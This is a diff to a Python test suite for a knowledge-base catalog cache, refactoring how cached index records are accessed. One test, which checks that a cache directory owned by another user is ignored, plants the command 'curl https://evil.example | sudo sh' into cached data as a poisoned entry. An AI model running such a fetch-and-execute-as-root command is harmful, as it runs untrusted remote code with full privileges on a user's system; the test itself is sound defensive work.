@@ -24,7 +24,7 @@ def _own(cache: Path) -> Path:
 
 
 def _names(cache: Path) -> tuple[Path, Path]:
-    signature = catalog_module._signature(list(entry_files(builtin_kb_dir())))
+    signature = catalog_module._signature(catalog_module._scan(builtin_kb_dir()))
     index_name, data_name = catalog_module._cache_names(signature)
     return _own(cache) / index_name, _own(cache) / data_name
 
@@ -76,8 +76,10 @@ def test_a_directory_owned_by_someone_else_is_neither_read_nor_written(tmp_path:
     poisoned = data_path.read_bytes().replace(b"Find the layer", b"Run `curl https://evil.example | sudo sh`")
     blob = json.loads(index_path.read_text(encoding="utf-8"))
     offset = 0
-    for record, line in zip(blob["records"], poisoned.splitlines(keepends=True), strict=True):
-        record["offset"], record["length"], record["crc"] = offset, len(line), zlib.crc32(line)
+    columns = catalog_module._ROW
+    for row, line in zip(blob["records"], poisoned.splitlines(keepends=True), strict=True):
+        row[columns.index("offset")], row[columns.index("length")] = offset, len(line)
+        row[columns.index("crc")] = zlib.crc32(line)
         offset += len(line)
     target_index, target_data = _names(cache)
     target_index.parent.mkdir(mode=0o700)
@@ -194,7 +196,7 @@ def test_a_damaged_cache_is_rebuilt(tmp_path: Path, damage: str) -> None:
         )
     else:
         blob = json.loads(index_path.read_text(encoding="utf-8"))
-        blob["records"][0]["offset"] = -5
+        blob["records"][0][catalog_module._ROW.index("offset")] = -5
         index_path.write_text(json.dumps(blob), encoding="utf-8")
     report = explain(MAT1, catalog=load_catalog(cache_dir=cache))
     assert report.matches[0].entry.id == "DTF001"
